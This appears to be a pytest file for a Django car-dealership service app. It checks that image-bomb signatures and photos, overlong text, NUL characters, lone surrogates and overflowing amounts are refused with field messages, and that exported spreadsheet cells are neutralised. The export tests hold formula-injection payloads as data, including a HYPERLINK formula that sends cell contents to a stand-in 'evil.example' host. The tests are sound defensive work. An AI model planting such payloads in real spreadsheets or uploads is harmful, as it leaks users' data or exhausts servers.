"""Issue 14, items 1-4: every input has a bound, and going past it is a message, never a 500.

A signature or photo bomb is refused before it is decoded, text has a length
fitting its use, amounts fit their columns, and exported cells never start a formula.
"""

import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from dealership.errors import DomainError
from dealership.images import photo_reencode
from delivery.models import Delivery
from delivery.tests.factories import settled_visit, staff
from reception.models import Visit
from reception.services import visit_walkaround_sign
from reception.signatures import signature_png
from reception.states import VisitStatus
from reception.tests.factories import (
    WalkedAroundVisitFactory,
    bomb_data_url,
    bomb_png,
    signature_data_url,
)
from workorders.models import OrderStatus, WorkOrder
from workorders.tests.factories import ready_to_sign_order

pytestmark = pytest.mark.django_db

TOO_LARGE = "签名图片过大"  # the site speaks Simplified Chinese by default


# ------------------------------------------------------------------ signatures


@pytest.mark.parametrize("side", [13_000, 14_000])
def test_a_signature_bomb_is_refused_before_it_is_decoded(side):
    with pytest.raises(DomainError) as error:
        signature_png(bomb_data_url(side))
    assert error.value.field == "signature"
    assert error.value.error_dict["signature"][0].code == "signature_too_large"
    with pytest.raises(DomainError):
        signature_png(bomb_png(side))


def test_a_signature_of_too_many_bytes_is_refused():
    with pytest.raises(DomainError) as error:
        signature_png("data:image/png;base64," + "A" * 600_000)
    assert TOO_LARGE in error.value.messages[0]


def test_a_tablet_sized_signature_is_still_accepted():
    image = Image.new("RGBA", (3000, 900), (0, 0, 0, 0))
    image.putpixel((1500, 450), (0, 0, 0, 255))
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    assert signature_png(buffer.getvalue()).size > 0


def test_the_walkaround_pad_refuses_a_bomb_with_a_message_and_stores_nothing(advisor_client):
    visit = WalkedAroundVisitFactory()
    response = advisor_client.post(
        reverse("reception:walkaround_sign", args=[visit.pk]),
        {"version": visit.version, "signer_name": "陈静", "signature": bomb_data_url()},
    )
    assert response.status_code == 400
    assert TOO_LARGE in response.content.decode()
    stored = Visit.objects.get(pk=visit.pk)
    assert (stored.walkaround_signed_at, stored.walkaround_signature.name) == (None, "")


def test_the_work_order_pad_refuses_a_bomb_with_a_message_and_stores_nothing(
    advisor_client, make_staff
):
    order = ready_to_sign_order(advisor=make_staff("advisor"))
    response = advisor_client.post(
        reverse("workorders:sign", args=[order.pk]),
        {
            "version": order.version,
            "confirm_items": "on",
            "confirm_cost": "on",
            "confirm_time": "on",
            "keep_old_parts": "no",
            "wash": "yes",
            "signer_name": "陈静",
            "signature": bomb_data_url(),
        },
    )
    assert response.status_code == 400
    assert TOO_LARGE in response.content.decode()
    stored = WorkOrder.objects.get(pk=order.pk)
    assert (stored.status, stored.signature.name) == (OrderStatus.DRAFT, "")


def test_the_hand_back_pad_refuses_a_bomb_with_a_message_and_stores_nothing(client):
    from delivery.services import gate_pass_issue

    visit, _order, _settlement = settled_visit()
    gate_pass_issue(visit=visit, actor=staff("cashier"))
    client.force_login(staff("advisor"))
    response = client.post(
        reverse("delivery:hand_back", args=[visit.pk]),
        {
            "signer_name": "张三",
            "belongings_returned": "on",
            "keys_returned": "on",
            "covers_removed": "on",
            "signature": bomb_data_url(),
        },
    )
    assert response.status_code == 400
    assert TOO_LARGE in response.content.decode()
    assert Visit.objects.get(pk=visit.pk).status != VisitStatus.DELIVERED
    assert Delivery.objects.get(visit=visit).handback_signature.name == ""


def test_the_bomb_is_refused_before_the_walkaround_rules_and_the_row_lock(make_staff):
    """An incomplete walk-around names its missing point; a bomb is refused even before that."""
    visit = WalkedAroundVisitFactory(key_tag="")
    with pytest.raises(DomainError) as error:
        visit_walkaround_sign(
            visit=visit, actor=make_staff("advisor"), signature=bomb_data_url(), signer_name="陈"
        )
    assert error.value.field == "signature"
    with pytest.raises(DomainError) as error:
        visit_walkaround_sign(
            visit=visit,
            actor=make_staff("advisor"),
            signature=signature_data_url(),
            signer_name="陈",
        )
    assert error.value.field == "key_tag"


# ---------------------------------------------------------------------- photos


def _jpeg(width: int, height: int) -> SimpleUploadedFile:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (90, 120, 200)).save(buffer, format="JPEG", quality=30)
    return SimpleUploadedFile("big.jpg", buffer.getvalue(), content_type="image/jpeg")


def test_a_49_megapixel_photo_is_scaled_down_and_kept():
    stored = photo_reencode(_jpeg(8100, 6050))
    image = Image.open(io.BytesIO(stored.read()))
    assert max(image.size) == 2048


def test_a_photo_over_50_megapixels_is_refused_with_a_message():
    with pytest.raises(DomainError) as error:
        photo_reencode(_jpeg(8200, 6200))
    assert error.value.error_dict["photo"][0].code == "photo_too_many_pixels"


def test_a_png_photo_bomb_is_refused_with_a_message():
    upload = SimpleUploadedFile("bomb.png", bomb_png(14_000), content_type="image/png")
    with pytest.raises(DomainError) as error:
        photo_reencode(upload)
    assert error.value.error_dict["photo"][0].code == "photo_too_many_pixels"


def test_a_49_megapixel_png_is_refused_as_it_would_be_decoded_whole():
    buffer = io.BytesIO()
    Image.new("RGB", (8100, 6050), (90, 120, 200)).save(buffer, format="PNG")
    with pytest.raises(DomainError) as error:
        photo_reencode(SimpleUploadedFile("big.png", buffer.getvalue()))
    assert error.value.error_dict["photo"][0].code == "photo_too_many_pixels"


# ------------------------------------------------------------------------ text


def _api(user):
    from rest_framework.test import APIClient

    client = APIClient()
    client.force_authenticate(user)
    return client


def test_a_concern_over_the_limit_is_refused_by_the_api_and_nothing_is_stored(make_staff):
    from dealership.tests.factories import VehicleFactory
    from dealership.text import CONCERN_MAX_LENGTH

    vehicle = VehicleFactory()
    response = _api(make_staff("advisor")).post(
        "/api/reception/visits/",
        {"vehicle": vehicle.pk, "concern_text": "异" * (CONCERN_MAX_LENGTH + 1)},
        format="json",
    )
    assert response.status_code == 400
    assert list(response.json()) == ["concern_text"]
    assert not Visit.objects.filter(vehicle=vehicle).exists()


def test_a_concern_over_the_limit_is_refused_on_the_check_in_page(advisor_client):
    from dealership.tests.factories import VehicleFactory
    from dealership.text import CONCERN_MAX_LENGTH

    vehicle = VehicleFactory()
    response = advisor_client.post(
        reverse("reception:check_in") + f"?vehicle={vehicle.pk}",
        {"vehicle": vehicle.pk, "concern_text": "异" * (CONCERN_MAX_LENGTH + 1)},
    )
    assert response.status_code == 400
    assert response.context["form"].errors["concern_text"]
    assert not Visit.objects.filter(vehicle=vehicle).exists()


def test_a_concern_over_the_limit_is_refused_on_the_concern_page(advisor_client):
    from dealership.text import CONCERN_MAX_LENGTH
    from reception.tests.factories import VisitFactory

    visit = VisitFactory()
    response = advisor_client.post(
        reverse("reception:concern", args=[visit.pk]),
        {"version": visit.version, "concern_text": "异" * (CONCERN_MAX_LENGTH + 1)},
    )
    assert response.status_code == 400
    assert Visit.objects.get(pk=visit.pk).concern_text == visit.concern_text


@pytest.mark.parametrize("bad", ["刹车\x00异响", "刹车\ud800异响"])
def test_nul_and_lone_surrogates_are_refused_with_a_message(make_staff, bad):
    from dealership.tests.factories import VehicleFactory
    from reception.services import visit_check_in

    vehicle = VehicleFactory()
    with pytest.raises(DomainError) as error:
        visit_check_in(vehicle=vehicle, actor=make_staff("advisor"), concern_text=bad)
    assert error.value.field == "concern_text"
    assert not Visit.objects.filter(vehicle=vehicle).exists()


def test_a_lone_surrogate_in_a_complaint_is_a_400_by_field(make_staff):
    from dealership.tests.factories import CustomerFactory
    from followup.models import Complaint

    customer = CustomerFactory()
    body = {"customer": customer.pk, "source": "phone", "category": "other"}
    body["description"] = "服务差\ud800"
    response = _api(make_staff("customer_care")).post(
        "/api/followup/complaints/",
        json.dumps(body),  # ASCII with \ud800 escaped, as a browser's JSON.stringify sends it
        content_type="application/json",
    )
    assert response.status_code == 400
    assert list(response.json()) == ["description"]
    assert not Complaint.objects.filter(customer=customer).exists()


@pytest.mark.parametrize(
    "words", [12345, ["a", "b"], "很好\x00", "很" * 5001], ids=["number", "list", "nul", "long"]
)
def test_survey_words_that_are_not_fit_text_are_refused_by_field(words):
    from followup.models import Survey
    from followup.services import survey_clean

    answers = dict.fromkeys(Survey.QUESTIONS, 9)
    with pytest.raises(DomainError) as error:
        survey_clean({**answers, "customer_words": words})
    assert error.value.field == "customer_words"


def test_a_five_thousand_digit_score_is_refused_by_field():
    from followup.models import Survey
    from followup.services import survey_clean

    name = Survey.QUESTIONS[0]
    answers = {**dict.fromkeys(Survey.QUESTIONS, 9), name: "9" * 5000}
    with pytest.raises(DomainError) as error:
        survey_clean(answers)
    assert error.value.field == name


def test_any_save_of_text_that_does_not_fit_is_a_message_by_field_not_a_database_error():
    from dealership.tests.factories import CustomerFactory

    customer = CustomerFactory()
    customer.name = "张" * 500
    with pytest.raises(DomainError) as error:
        customer.save()
    assert error.value.field == "name"


def test_the_longest_allowed_concern_prints_the_work_order_in_under_two_seconds(make_staff):
    import time

    from dealership.text import CONCERN_MAX_LENGTH, NOTE_MAX_LENGTH
    from workorders.pdf import work_order_pdf

    order = ready_to_sign_order(advisor=make_staff("advisor"))
    # Written straight to the rows: the signed concern is frozen for the services.
    Visit.objects.filter(pk=order.visit_id).update(
        concern_text="刹车时有异响而且方向盘抖动"[:13] * (CONCERN_MAX_LENGTH // 13),  # no spaces
        advisor_notes="x" * NOTE_MAX_LENGTH,
        diagnosis="诊断" * (NOTE_MAX_LENGTH // 2),
        exterior_notes="划" * NOTE_MAX_LENGTH,
    )
    WorkOrder.objects.filter(pk=order.pk).update(notes="备注" * (NOTE_MAX_LENGTH // 2))
    order = WorkOrder.objects.select_related("visit").get(pk=order.pk)
    work_order_pdf(order, progress_url="https://service.example.com/p/x")  # warm fonts
    # CPU time: eight test runs share two cores here, so wall time measures the neighbours.
    started = time.process_time()
    pdf = work_order_pdf(order, progress_url="https://service.example.com/p/x")
    elapsed = time.process_time() - started
    print(f"work-order PDF with the longest allowed texts: {elapsed:.2f} s CPU, {len(pdf)} bytes")
    assert elapsed < 2


# --------------------------------------------------------------------- amounts


OVERFLOW = {"quantity": "999999.99", "unit_price": "99999999.99"}


def test_a_line_that_would_overflow_is_refused_by_the_service_with_messages_by_field(make_staff):
    from dealership.tests.factories import PartFactory
    from reception.tests.factories import VisitFactory
    from workorders.services import work_order_line_add, work_order_start

    advisor = make_staff("advisor")
    order = work_order_start(visit=VisitFactory(), actor=advisor)
    part = PartFactory(price="398")
    for field, value in OVERFLOW.items():
        with pytest.raises(DomainError) as error:
            work_order_line_add(order=order, actor=advisor, part=part, **{field: value})
        assert error.value.field == field
    # Each within bounds, but together over what an order may come to.
    work_order_line_add(order=order, actor=advisor, part=part, quantity="9999", unit_price="9999")
    with pytest.raises(DomainError) as error:
        work_order_line_add(
            order=order, actor=advisor, part=part, quantity="9999", unit_price="999999.99"
        )
    assert error.value.error_list[0].code == "total_too_large"
    assert order.lines.count() == 1


def test_a_line_that_would_overflow_is_a_400_by_field_on_the_api(make_staff):
    from dealership.tests.factories import PartFactory
    from reception.tests.factories import VisitFactory
    from workorders.services import work_order_start

    advisor = make_staff("advisor")
    order = work_order_start(visit=VisitFactory(), actor=advisor)
    response = _api(advisor).post(
        f"/api/orders/work-orders/{order.pk}/lines/",
        {"part": PartFactory(price="398").pk, **OVERFLOW},
        format="json",
    )
    assert response.status_code == 400
    assert {"quantity", "unit_price"} <= set(response.json())
    assert order.lines.count() == 0


def test_a_line_that_would_overflow_is_refused_next_to_the_field_on_the_page(
    advisor_client, make_staff
):
    from dealership.tests.factories import PartFactory
    from reception.tests.factories import VisitFactory
    from workorders.services import work_order_line_add, work_order_start

    advisor = make_staff("advisor")
    order = work_order_start(visit=VisitFactory(), actor=advisor)
    line = work_order_line_add(order=order, actor=advisor, part=PartFactory(price="300"))
    order.refresh_from_db()
    response = advisor_client.post(
        reverse("workorders:line_update", args=[line.pk]),
        {"version": order.version, "discount_percent": "0", "job_type": "repair", **OVERFLOW},
    )
    assert response.status_code == 400
    assert {"quantity", "unit_price"} <= set(response.context["line_errors"])
    line.refresh_from_db()
    assert (line.quantity, line.unit_price) == (1, 300)


# --------------------------------------------------------------------- exports


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("https://evil.example/?x="&A1,"点")', "+1+2", "-2+3", "@SUM(A1)", "\t=1"]
)
def test_a_cell_that_would_start_a_formula_is_exported_as_text(text):
    from reports.exports import spreadsheet_cell

    assert spreadsheet_cell(text) == "'" + text
    assert spreadsheet_cell("王师傅") == "王师傅"
    assert spreadsheet_cell(-12) == -12  # a number stays a number


def test_report_exports_neutralise_a_technician_named_like_a_formula(client, make_staff):
    import csv

    from openpyxl import load_workbook

    from dealership.models import Technician
    from reports.tests import test_figures as data

    data.build_store()
    evil = '=HYPERLINK("https://evil.example/","点我")'
    Technician.objects.filter(name="王师傅").update(name=evil, team="@团队")
    client.force_login(make_staff("service_manager"))
    client.cookies["django_language"] = "en"
    query = "?table=technicians&period=month&date=2026-01-01"
    response = client.get(reverse("reports:export_csv") + query)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert ["'" + evil, "'@团队"] in [row[:2] for row in rows]
    response = client.get(reverse("reports:export_xlsx") + query)
    sheet = load_workbook(io.BytesIO(response.content))["Technician hours"]
    names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'" + evil in names
    assert not any(str(cell.value).startswith("=") for row in sheet.iter_rows() for cell in row)
